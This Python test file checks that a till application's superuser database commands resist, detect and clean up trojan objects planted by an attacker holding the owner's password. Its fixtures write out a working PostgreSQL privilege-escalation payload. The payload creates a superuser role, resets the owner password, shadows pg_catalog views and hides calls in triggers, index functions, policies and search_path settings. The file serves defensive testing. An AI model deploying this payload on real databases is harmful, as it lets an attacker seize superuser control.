"""The commands that take a superuser's address, in a database that is a thief's: he had the password of its owner.

Each function, view, trigger and index of it runs his code, which makes a superuser of the server where it may, and sets
the owner's old password. Tills go on to call it.
"""

from __future__ import annotations

import time
from contextlib import closing, contextmanager, suppress
from dataclasses import replace
from threading import Event, Thread
from typing import TYPE_CHECKING, Final

import psycopg
import pytest
from psycopg import sql

from db.engine import connect
from db.errors import DatabaseError, RefusedLoginError
from db.schema import SCHEMAS
from tests.cli.conftest import both, is_oldest
from tests.plugins.folders import run_dir
from tests.plugins.servers import own_server
from till.cli.connections import names_superuser
from till.cli.environment import Surroundings

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from db.address import Address
    from tests.cli.conftest import Shell

#: The thief's code: it acts with the rights of whoever runs it.
_ACT: Final = """
    CREATE SCHEMA evil;
    GRANT USAGE ON SCHEMA evil TO PUBLIC;
    CREATE FUNCTION evil.act() RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN
        BEGIN
            EXECUTE 'RESET ROLE';
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
        BEGIN
            EXECUTE 'CREATE ROLE backup_agent SUPERUSER LOGIN PASSWORD ''thief''';
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
        BEGIN
            EXECUTE {old};
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
        RETURN true;
    END $$;
    CREATE FUNCTION evil.act_as_owner() RETURNS boolean LANGUAGE sql SECURITY DEFINER AS 'SELECT evil.act()';
    CREATE FUNCTION evil.both() RETURNS boolean LANGUAGE sql AS 'SELECT evil.act() AND evil.act_as_owner()';
    CREATE FUNCTION evil.of_index(text) RETURNS text LANGUAGE plpgsql IMMUTABLE
        AS $$ BEGIN PERFORM evil.both(); RETURN $1; EXCEPTION WHEN OTHERS THEN RETURN $1; END $$;
    CREATE FUNCTION evil.of_trigger() RETURNS trigger LANGUAGE plpgsql
        AS $$ BEGIN PERFORM evil.both(); RETURN coalesce(new, old); END $$;
    CREATE FUNCTION evil.pg_terminate_backend(integer) RETURNS boolean LANGUAGE sql AS 'SELECT evil.both()';
    CREATE VIEW evil.pg_roles AS SELECT r.* FROM pg_catalog.pg_roles AS r WHERE evil.both();
    CREATE VIEW evil.pg_class AS SELECT r.* FROM pg_catalog.pg_class AS r WHERE evil.both();
    CREATE VIEW evil.pg_stat_activity AS SELECT s.* FROM pg_catalog.pg_stat_activity AS s WHERE evil.both();
"""
#: Each function of the till with his body: its head, and what it answers.
_FUNCTIONS: Final = """
    SELECT format('CREATE OR REPLACE FUNCTION %%s.%%I(%%s) RETURNS %%s LANGUAGE plpgsql VOLATILE %%s AS %%L',
        p.pronamespace::regnamespace, p.proname, pg_get_function_arguments(p.oid), pg_get_function_result(p.oid),
        CASE WHEN p.oid::bigint %% 2 = 0 THEN 'SECURITY DEFINER' END,
        format('BEGIN PERFORM evil.both(); RETURN%%s; END', CASE
            WHEN p.prorettype = 'trigger'::regtype THEN ' coalesce(new, old)'
            WHEN NOT p.proretset AND p.prorettype <> 'void'::regtype
                AND NOT coalesce(p.proargmodes && '{o,b,t}', false) THEN ' NULL' END))
    FROM pg_proc AS p WHERE p.pronamespace = ANY (%s::regnamespace[]) AND p.prokind = 'f'
"""
#: The tables, each with a column of text; and what of a kind runs his code.
_TEXTS: Final = """
    SELECT DISTINCT ON (c.oid) c.oid::regclass::text, a.attname
    FROM pg_class AS c JOIN pg_attribute AS a ON a.attrelid = c.oid
    WHERE c.relnamespace = ANY (%s::regnamespace[]) AND c.relkind IN ('r', 'p') AND NOT c.relispartition
        AND a.atttypid = 'text'::regtype AND NOT a.attisdropped
"""
_HIS: Final = """
    SELECT (SELECT count(*) FROM pg_proc WHERE prosrc LIKE '%evil.both%'),
        (SELECT count(*) FROM pg_trigger WHERE tgname = 'acts'),
        (SELECT count(*) FROM pg_policy WHERE polname = 'acts'),
        (SELECT count(*) FROM pg_index WHERE pg_get_indexdef(indexrelid) LIKE '%evil.of_index%')
"""
#: His function of the facts about the database, which still tells them.
_FACTS: Final = """
    CREATE OR REPLACE FUNCTION till.schema_v1() RETURNS TABLE (key text, value text) LANGUAGE plpgsql SECURITY DEFINER
    AS $$ BEGIN
        PERFORM evil.both();
        RETURN QUERY SELECT i.key, i.value FROM till.info AS i
            UNION ALL SELECT 'revision', v.version_num::text FROM till.alembic_version AS v;
    END $$
"""


@pytest.fixture
def server(pytestconfig: pytest.Config, programs: Path) -> Iterator[Address]:
    with own_server(run_dir(pytestconfig), "autovacuum_naptime=1s", programs=programs) as address:
        yield address


def scram(owner: Address) -> str:
    """Return the statement that sets the password of an address."""
    with connect(owner) as session:
        kept = session.pgconn.encrypt_password(str(owner.password).encode(), b"till_owner", b"scram-sha-256").decode()
        return f"ALTER ROLE till_owner PASSWORD '{kept}'"


def take_over(owner: Address) -> None:
    """Make all that is in the database the thief's, and a database of his own."""
    old = scram(owner)
    with connect(owner) as thief:
        thief.execute("CREATE DATABASE loot")
        thief.execute(_ACT.format(old=sql.Literal(old).as_string()).encode())
        for (words,) in thief.execute(_FUNCTIONS, [list(SCHEMAS)]).fetchall():
            thief.execute(words.encode())
        thief.execute(_FACTS)
        views = "SELECT format('%%I.%%I', schemaname, viewname) FROM pg_views WHERE schemaname = ANY (%s)"
        for (view,) in thief.execute(views, [list(SCHEMAS)]).fetchall():
            with suppress(psycopg.Error):  # those that others need, and his own
                thief.execute(
                    f"ALTER VIEW {view} RENAME TO of_before; CREATE VIEW {view} AS SELECT evil.both()".encode()
                )
        thief.execute("ALTER TABLE till.schema_info RENAME TO info")
        thief.execute("CREATE VIEW till.schema_info AS SELECT * FROM till.info WHERE evil.both()")
        for table, column in thief.execute(_TEXTS, [list(SCHEMAS)]).fetchall():
            for words in (
                f"CREATE TRIGGER acts BEFORE INSERT ON {table} FOR EACH ROW EXECUTE FUNCTION evil.of_trigger()",
                f"CREATE INDEX ON {table} (evil.of_index({column}))",
                f"CREATE POLICY acts ON {table} USING (evil.both())",
            ):
                thief.execute(words.encode())
        his = thief.execute(_HIS).fetchall()
        assert all(count > least for count, least in zip(his[0], (500, 50, 50, 50), strict=True)), his
        thief.execute("CREATE TABLE evil.churn (name text); CREATE INDEX ON evil.churn (evil.of_index(name))")
        thief.execute("INSERT INTO evil.churn SELECT n::text FROM generate_series(1, 500) AS n")
        thief.execute("ALTER DATABASE bar SET search_path = evil, pg_catalog")
        thief.execute("ALTER DATABASE bar SET role = till_owner")
    with connect(owner.on("loot")) as thief:
        thief.execute(_ACT.format(old=sql.Literal(old).as_string()).encode())


@contextmanager
def calling(*tills: Address) -> Iterator[dict[str, Event]]:
    """Call as tills what each push calls, again and again; yield what is set whenever each was answered."""
    answered, ends = {one.dbname: Event() for one in tills}, Event()

    def call(till: Address) -> None:
        while not ends.is_set():
            with suppress(psycopg.Error, DatabaseError), connect(till) as session:
                while not ends.is_set():
                    if till.dbname == "loot":
                        session.execute("SELECT evil.act_as_owner()")
                    else:
                        session.execute("SELECT * FROM till.schema_v1()")
                        with suppress(psycopg.Error):  # it refuses an empty push
                            session.execute("SELECT warm.sync_push_v1(NULL)")
                    answered[till.dbname].set()
                    time.sleep(0.02)

    threads = [Thread(target=call, args=[till]) for till in tills]
    for thread in threads:
        thread.start()
    try:
        yield answered
    finally:
        ends.set()
        for thread in threads:
            thread.join()


def robbed(shell: Shell, owner: Address) -> tuple[str, Address]:
    """Upgrade a prepared database, and let the thief take it over. Return a superuser's URL, and a till's address."""
    shell.ok("db", "upgrade")
    take_over(owner)
    shell.patch.setenv("PGPASSWORD", "venue")
    app = (shell.folder / "app.pw").read_text().strip()
    return f"postgresql://venue@/bar?host={owner.host}", replace(owner, user="till_app", password=app)


def superusers(server: Address) -> list[str]:
    with connect(server) as administrator:
        return [name for (name,) in administrator.execute("SELECT rolname FROM pg_roles WHERE rolsuper")]


@both
def test_no_command_of_a_superuser_runs_what_the_owner_made(shell: Shell, prepared: Address, server: Address) -> None:
    url, app = robbed(shell, prepared)
    files = ("--password-file", str(shell.folder / "app.pw"), "--owner-password-file", str(shell.folder / "owner.pw"))
    with calling(app, app.on("loot")) as answered:
        assert all(one.wait(30) for one in answered.values())
        shell("db", "prepare", url, *files)  # refused while his code sets the password
        shell("admin", "programs", "add", "chat", "--as-owner", "--superuser", url)
        with shell.patch.context() as patch:
            patch.setenv("TILL_DATABASE__OWNER_URL", url)
            patch.delenv("TILL_DATABASE__OWNER_PASSWORD_FILE")
            for words in (
                "check",
                "upgrade",
                "upgrade --anew",
                "status",
                "restore x",
                "set-password",
                "backup --made-elsewhere",
            ):
                assert "venue in the config is a superuser" in shell.refused("db", *words.split())
            backup = shell("db", "backup", str(shell.folder / "loot.dump"))
            assert "This backup is not noted in it, and the next version takes none as a superuser." in backup.err
            assert "venue in the config is a superuser" in shell("doctor").out
        assert superusers(server) == ["venue"]
        with closing(connect(prepared, autocommit=False)) as waiting:
            waiting.execute("LOCK TABLE till.users")
            new = ("--password-file", str(shell.folder / "owner.pw"))
            printed = shell.ok("db", "set-password", url, *new, "--remove-strangers")
        assert "Its other databases, without their functions now: loot." in printed
        shell.ok("db", "upgrade", "--anew")
        answered["bar"].clear()
        assert answered["bar"].wait(30)
    with pytest.raises(RefusedLoginError):
        connect(prepared)
    assert superusers(server) == ["venue"]
    assert "schema evil" in shell("db", "check").out  # without any function
    shell.ok("db", "set-password", "--remove-strangers")
    shell("db", "check", "--sql", str(shell.folder / "keys.sql"))  # the keys of the table that he renamed
    with connect(server.on("bar")) as administrator:
        administrator.execute((shell.folder / "keys.sql").read_bytes())
    assert shell.ok("db", "check") == "The database is as this till made it.\n"


@both
def test_file_of_check_runs_nothing_that_the_owner_made(shell: Shell, prepared: Address, server: Address) -> None:
    url, app = robbed(shell, prepared)
    remedy = shell.folder / "remedy.sql"
    with calling(app):
        assert "Not the till's: schema evil" in shell("db", "check", "--sql", str(remedy)).out
        assert remedy.read_text().startswith("SET search_path TO 'pg_catalog'; SET role TO 'none';")
        with connect(server.on("bar")) as administrator:
            for words in remedy.read_text().splitlines():
                with suppress(psycopg.Error):
                    administrator.execute(words.encode())
        assert superusers(server) == ["venue"]
        shell.ok("db", "set-password", url, "--password-file", str(shell.folder / "owner.pw"))
    with pytest.raises(RefusedLoginError):
        connect(prepared)


def test_config_that_names_a_superuser_is_found(shell: Shell, prepared: Address) -> None:
    assert not names_superuser(Surroundings.find())
    file = shell.folder / "superuser.pw"
    file.touch(0o600)
    file.write_text("venue")
    shell.patch.setenv("TILL_DATABASE__OWNER_URL", f"postgresql://venue@/bar?host={prepared.host}")
    shell.patch.setenv("TILL_DATABASE__OWNER_PASSWORD_FILE", str(file))
    assert names_superuser(Surroundings.find())


def test_superuser_changes_no_role_but_a_programs(shell: Shell, prepared: Address, server: Address) -> None:
    shell.ok("db", "upgrade")
    if not is_oldest(server):
        pytest.skip("from PostgreSQL 16 on the owner makes the roles of programs")
    shell.patch.setenv("PGPASSWORD", "venue")
    with connect(prepared) as thief:
        thief.execute(
            "CREATE OR REPLACE FUNCTION till.program_add_v1(p_store uuid, p_actor integer, p_name text,"
            " p_tells_payments boolean DEFAULT false) RETURNS text LANGUAGE sql AS $$ SELECT 'till_owner' $$"
        )
    url = f"postgresql://venue@/bar?host={server.host}"
    refusal = shell.refused("admin", "programs", "add", "chat", "--as-owner", "--superuser", url)
    assert "The database names till_owner as the program's role." in refusal
    connect(prepared).close()


@both
def test_password_is_renewed_whatever_became_of_the_database(shell: Shell, prepared: Address, server: Address) -> None:
    """The thief closed the database, and made one of another encoding, with a role that no UTF8 database can read."""
    shell.ok("db", "upgrade")
    shell.patch.setenv("PGPASSWORD", "venue")
    new = ("--password-file", str(shell.folder / "owner.pw"), "--remove-strangers")
    with connect(prepared.on("postgres")) as thief:
        thief.execute("CREATE DATABASE ascii ENCODING 'SQL_ASCII' LOCALE 'C' TEMPLATE template0")
        if not is_oldest(server):
            with connect(prepared.on("ascii")) as other:
                other.execute("SET client_encoding TO 'SQL_ASCII'")
                other.execute(b'CREATE ROLE "odd\xff" LOGIN; GRANT till_app TO "odd\xff"')
            assert "odd\N{REPLACEMENT CHARACTER}" in shell("db", "check").out
        for words in (
            "ALTER DATABASE bar SET role = till_app", "ALTER DATABASE bar SET default_transaction_read_only = on",
            "ALTER DATABASE bar SET statement_timeout = '1ms'", "ALTER DATABASE bar CONNECTION LIMIT 0",
            "ALTER DATABASE bar ALLOW_CONNECTIONS false", "ALTER DATABASE bar RENAME TO away",
            "ALTER ROLE till_owner SET role = till_app",
        ):  # fmt: skip
            thief.execute(words.encode())
    refusal = shell.refused("db", "set-password", f"postgresql://venue@/bar?host={server.host}", *new)
    assert "There is no database bar" in refusal
    assert "The owner has: ascii, away." in refusal
    printed = shell.ok("db", "set-password", f"postgresql://venue@/away?host={server.host}", *new)
    assert "Its other databases, without their functions now: ascii." in printed
    with connect(server) as administrator:
        administrator.execute("ALTER DATABASE away RENAME TO bar")
    with pytest.raises(RefusedLoginError):
        connect(prepared)
    shell.ok("db", "upgrade", "--anew")
    assert shell.ok("db", "check") == "The database is as this till made it.\n"


def test_renewal_that_a_superuser_holds_up_says_that_tills_are_offline(
    shell: Shell, prepared: Address, server: Address
) -> None:
    shell.ok("db", "upgrade")
    shell.patch.setenv("PGPASSWORD", "venue")
    url, file = f"postgresql://venue@/bar?host={server.host}", str(shell.folder / "owner.pw")
    renew = ("db", "set-password", url, "--password-file", file)
    with closing(connect(server.on("bar"), autocommit=False)) as other, shell.patch.context() as patch:
        patch.setattr("db.remedy._ATTEMPTS", 1)
        other.execute("LOCK TABLE till.users IN ACCESS SHARE MODE")
        assert "Until this command has run to its end the owner cannot connect, and tills are off" in shell.refused(
            *renew
        )
    shell.ok(*renew)
    with pytest.raises(RefusedLoginError):
        connect(prepared)


def test_tables_that_only_a_backup_has_are_named(shell: Shell, prepared: Address) -> None:
    shell.ok("db", "upgrade")
    with connect(prepared) as thief:
        thief.execute("ALTER TABLE till.schema_info RENAME TO info")
        thief.execute("CREATE VIEW till.schema_info AS SELECT * FROM till.info")
    assert "Not the till's: view till.schema_info" in shell.ok("db", "set-password", "--remove-strangers")
    shell.ok("db", "upgrade", "--anew")
    with connect(own(shell, prepared)) as thief:
        thief.execute("ALTER TABLE till.users RENAME TO people")
    done = shell("db", "set-password", "--remove-strangers")
    assert "The database lacks tables of the till: till.users." in done.err
    for refusal in (shell.refused("db", "upgrade", "--anew"), shell("db", "check").out):
        assert "The database lacks tables of the till: till.users." in refusal
        assert "`till db restore FILE --replace` brings back a backup" in refusal
    with connect(own(shell, prepared)) as thief:
        thief.execute("DROP TABLE till.alembic_version")
    assert "The database lacks tables of the till: till.alembic_version." in shell.refused("db", "upgrade", "--anew")


def own(shell: Shell, owner: Address) -> Address:
    return owner.with_password((shell.folder / "owner.pw").read_text().strip())
